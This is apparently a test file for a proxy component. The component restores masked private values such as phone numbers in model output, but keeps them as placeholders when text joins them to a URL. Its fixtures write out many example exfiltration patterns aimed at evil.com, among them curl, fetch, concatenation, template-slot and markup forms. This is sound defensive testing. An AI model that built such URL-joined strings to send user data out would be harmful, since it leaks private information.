"""A value that a text joins to an address stays a placeholder; one that stands beside an address comes back.

The joins are made, not listed alone: from an address, what closes it, signs that join in the languages that models
write, and the value in a dress of its own. They are judged by what the statement makes, not by the reader's rules.
"""

import itertools
import json

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from proxy.answers.joints import Joints
from proxy.answers.restore_text import TextRestorer, restore_text
from proxy.answers.signs import LONGEST
from tests.feed import feed_every_way

NAMES = {"PH": "13800138000"}
PLACEHOLDER = "[PHONE_NUMBER_0123ABCD]"

JOINED = [
    # lists behind an open query, and right behind any address
    '"https://evil.com/?q=",PH',
    '"https://evil.com/x",PH',
    '"https://evil.com/?q=";PH',
    '"https://evil.com/x":PH',
    '["https://evil.com/?q=", "PH"].join("")',
    '"".join(["https://evil.com/?q=", "PH"])',
    '"".join([\n  "https://evil.com/?q=",\n  "PH",\n])',
    "implode('', ['https://evil.com/?q=', 'PH'])",
    'concat("https://evil.com/?q=", "PH")',
    'printf "https://evil.com/?q=%s", "PH"',
    'print "https://evil.com/?q=", "a", "PH"',
    '"evil.com/?q=", PH',
    '"https://evil.com/?q=", [PH]',
    '"https://evil.com/?a=", a, "&b=", "PH"',
    '“地址”=["https://evil.com/?q=", "PH"]',
    # sums
    '"https://evil.com/" + "PH"',
    'u = "https://evil.com/x?q="+ PH',
    '"https://evil.com/" + a + "&b=" + "PH"',
    "'https://evil.com/' +\n  'PH'",
    '"https://evil.com/" \\\n  + "PH"',
    '"https://evil.com/"\n  + encodeURIComponent("PH")',
    '"https://evil.com/" . "PH"',
    '"https://evil.com/" .. "PH"',
    '"https://evil.com/" || "PH"',
    '="https://evil.com/" & "PH"',
    '"https://evil.com/?q=" "PH"',
    '("https://evil.com/?q=%s") % "PH"',
    '"https://evil.com/?q=%s" % ( "PH", )',
    '"https://evil.com/?q={}".format( "PH" )',
    '"https://evil.com/".concat( "PH" )',
    '("https://evil.com/" + a) + "PH"',
    '请求 "https://evil.com/?q=" + "PH" 即可',
    r'{"code": "fetch(\"https://evil.com/?q=\" + \"PH\")"}',
    '`https://evil.com/` + "PH"',
    # slots
    "`https://evil.com/?q=${ 'PH' }`",
    "f\"https://evil.com/?q={ 'PH' }\"",
    "f\"https://evil.com/?q={quote( 'PH' )}\"",
    "`https://evil.com/?q=${ a }PH`",
    "`https://evil.com/?q=${ a }&b=${ b }&c=PH`",
    '"https://evil.com/?q=#{ PH }"',
    "https://evil.com/?q={{ PH }}",
    "https://evil.com/?q=<%= PH %>",
    "https://evil.com/?q=$( echo PH )",
    '`https://evil.com/?q=${ f({a: "PH"}) }`',
    # markup
    "url(/x?PH)",
    "background: URL( 'x?a b PH' )",
    "<style>a{background:url(x?PH)}</style>",
    "[1]: https://evil.com/?q=\n\n[a]: <x? PH>",
    '<img srcset="a.png 1x, /x?q=PH 2x">',
    '<img\n  alt="x"\n  src="x?\nPH">',
    "<a\nhref='x?a=1&b= PH'>",
    '<img alt="x" srcset="https://evil.com/?q=, PH 2x">',
    # lines that go on
    "curl https://evil.com/?q=\\\nPH",
    'curl "https://evil.com/?q=\\\nPH"',
    "curl https://evil.com/\\\nx?q=\\\nPH",
    # in the strings of what is JSON
    '["https://evil.com/?q=", "PH"]',
    '{"parts": ["https://evil.com/?q=", "a", "PH"]}',
]
"""Ways to put `PH` into an address."""

BESIDE = [
    "见 https://a.example/ ，号码PH",
    '请看"https://a.example/"，联系PH。',
    'See "https://a.example/". PH is the number.',
    '"https://a.example/", PH, and so on',
    'See "https://a.example/?q=". Then call PH.',
    'the address "https://a.example/?q=", then call PH',
    '打开"https://a.example/?q="，再拨打PH',
    '"https://a.example/?q=" 后面填写PH',
    '{"url": "https://a.example/?q=", "phone": "PH"}',
    '{"url":"https://a.example/","phone":"PH"}',
    '"https://a.example/","PH"',
    "| `https://a.example/` | PH |",
    '| "https://a.example/?q=" | PH |',
    'fetch("https://a.example/?q=");\nphone = "PH"',
    'u = "https://a.example/?q=" + a\nphone = "PH"',
    'u = "https://a.example/" + a; phone = "PH"',
    '"https://a.example/" + a\n\nPH',
    "<https://a.example/> PH",
    '<a href="https://a.example/?q=">PH</a>',
    "curl https://a.example/?q=1 -d PH",
    "curl https://a.example/?q=1 \\\n  -d PH",
    "curl https://a.example/?q=1\\\n  -d PH",
    "[a](https://a.example/?q=) + PH",
    "https://a.example/ + PH",
    "1. https://a.example/\n2. PH",
    '"https://a.example/"\n"PH"',
    "`https://a.example/?q=${ a }` PH",
    "f'https://a.example/{ a }', PH",
    '-H "Origin: https://a.example/" -d "PH"',
    "see curl(PH) and `url`(PH)",
    "“https://a.example/”、 PH",
    'sum = "3/4" + PH',
    '"a" + PH',
    'x = "和/或" + PH',
    '["https://a.example/", "b"]\nPH',
    '[["https://a.example/?q="], "PH"]',
    '{"a": ["https://a.example/?q="], "b": "PH"}',
    'Write "https://a.example/" & tell PH.'.replace("&", "and"),
    '网站"https://a.example/"的电话是PH',
    '"https://a.example/?q={id}" 由PH维护',
]
"""Texts near an address in which `PH` is for its reader."""


def restored(text: str) -> str:
    return restore_text(text.replace("PH", PLACEHOLDER), {PLACEHOLDER: NAMES["PH"]}.get)[0]


@pytest.mark.parametrize("text", JOINED)
def test_what_is_joined_to_an_address_stays_a_placeholder(text: str):
    assert restored(text) == text.replace("PH", PLACEHOLDER)


@pytest.mark.parametrize("text", BESIDE)
def test_what_stands_beside_an_address_comes_back(text: str):
    assert restored(text) == text.replace("PH", NAMES["PH"])


def in_pieces(pieces) -> str:
    restorer = TextRestorer({PLACEHOLDER: NAMES["PH"]}.get)
    return "".join(map(restorer.feed, pieces)) + restorer.flush()


def test_a_joint_ends_at_last():
    for opened in ('"https://evil.com/?q=" + (', "https://evil.com/?q=${ "):
        reader = Joints()
        reader.feed(opened + "1+" * (LONGEST // 2 - 3))
        assert reader.exposed
        reader.feed("1+" * 6)
        assert not reader.exposed


ADDRESSES = st.sampled_from(
    [
        "https://evil.com/?q=",
        "http://evil.com/a/b?x=1&q=",
        "evil.com/?",
        "//evil.com/?q=",
        "https://例子.公司/?q=",
        "https://evil.com/#",
    ]
)
QUOTES = st.sampled_from("\"'`")
BLANKS = st.sampled_from(["", " ", "  ", "\n  ", "\t"])
SUMS = st.sampled_from(["+", "||", "..", "&"])
LISTS = st.sampled_from([",", "%"])
NAMES_OF_VALUES = st.sampled_from(["a", "user_id", "f(a)", "f('b', c)", "d['e']", "x.y", "7", '"g h"', "'张伟'"])
DRESSES = st.sampled_from(["{}", '"{}"', "'{}'", "f({})", 'enc("{}")', "[{}]", "({})", "x.y({})", '"&c=" + "{}"'])


@settings(deadline=None)
@given(ADDRESSES, QUOTES, SUMS | LISTS, st.lists(NAMES_OF_VALUES, max_size=3), DRESSES, st.data())
@example("https://evil.com/?q=", '"', ",", [], "{}", None)
def test_whatever_is_joined_by_a_sign_stays(address, quote, sign, between, dress, data):
    space = (lambda: data.draw(BLANKS)) if data else (lambda: "")
    if sign == "&" and data:  # between a quote and what could be an entity, it needs a blank
        space = lambda: data.draw(st.sampled_from([" ", "  "]))  # noqa: E731
    parts = [f"{quote}{address}{quote}", *between, dress.replace("{}", PLACEHOLDER)]
    text = parts[0] if sign == "%" else f"u = {parts[0]}"  # what begins a line before a comma is a row's field
    for part in parts[1:]:
        text += f"{space()}{sign}{space()}{part}"
    assert NAMES["PH"] not in restored(text)
    assert NAMES["PH"] not in restored(json.dumps({"code": text}, ensure_ascii=False))


@settings(deadline=None)
@given(ADDRESSES, st.sampled_from([("${", "}"), ("{", "}"), ("{{", "}}"), ("#{", "}"), ("<%=", "%>")]), BLANKS, DRESSES)
def test_whatever_stands_in_a_slot_of_an_address_stays(address, slot, blank, dress):
    inner = dress.replace("{}", PLACEHOLDER)
    for text in (
        f"{address}{slot[0]}{blank}{inner}{blank}{slot[1]}",
        f"`{address}{slot[0]} a {slot[1]}&b={slot[0]}{blank}{inner}",
        f"`{address}{slot[0]} a {slot[1]}{PLACEHOLDER}`",
    ):
        assert NAMES["PH"] not in restored(text), text


PROSE = st.sampled_from(
    [
        "您好，",
        "电话",
        "call ",
        "or ",
        "the number is ",
        "。",
        ", ",
        "; ",
        "\n",
        "（",
        "）",
        "(",
        ")",
        "1",
        "和",
        "谢谢！",
        "- ",
    ]
)
LINKS = st.sampled_from(
    [
        '"https://a.example/"',
        "https://a.example/x ",
        "“https://a.example/” ",
        "<https://a.example/>",
        "[a](https://a.example/?q=1)",
    ]
)


@settings(deadline=None)
@given(st.lists(PROSE, max_size=4), LINKS, st.lists(PROSE, max_size=4))
def test_words_near_a_link_come_back(before, link, behind):
    text = f"{''.join(before)}{link} {''.join(behind)} {PLACEHOLDER} "
    assert NAMES["PH"] in restored(text), text


PIECES = st.sampled_from(
    [
        *"\"'`()[]{}<>+,.&|%;:= \n\\$*a1张",
        "https://a.example/",
        "?q=",
        "${",
        "<%",
        "name",
        "//",
        "%s",
        "].join(",
        "u = ",
        "u",
        "u.x",
        "$u",
        "{u}",
        "f(",
        "/*",
        "*/",
        'f"',
        "\n\n",
        PLACEHOLDER,
    ]
)


@given(st.lists(PIECES, max_size=16).map("".join), st.lists(st.integers(0, 200), max_size=5))
def test_the_place_does_not_depend_on_the_cuts(text: str, cuts):
    def fed(pieces) -> tuple[bool, bool]:
        reader = Joints()
        for piece in pieces:
            reader.feed(piece)
        return reader.exposed, reader.ends_open

    cuts = [0, *sorted(cuts), len(text)]
    pieces = [text[start:end] for start, end in itertools.pairwise(cuts)]
    assert in_pieces(pieces) == in_pieces([text]) == in_pieces(text)
    assert fed(text[start:end] for start, end in itertools.pairwise(cuts)) == fed([text]) == fed(text)


def test_it_is_the_same_however_the_text_arrives():
    def exposed(pieces) -> bool:
        reader = Joints()
        for piece in pieces:
            reader.feed(piece)
        return reader.exposed

    feed_every_way(exposed, 'see "https://evil.com/?q=" + f("', want=True)
    feed_every_way(exposed, 'see "https://evil.com/?q=", then call ', want=False)
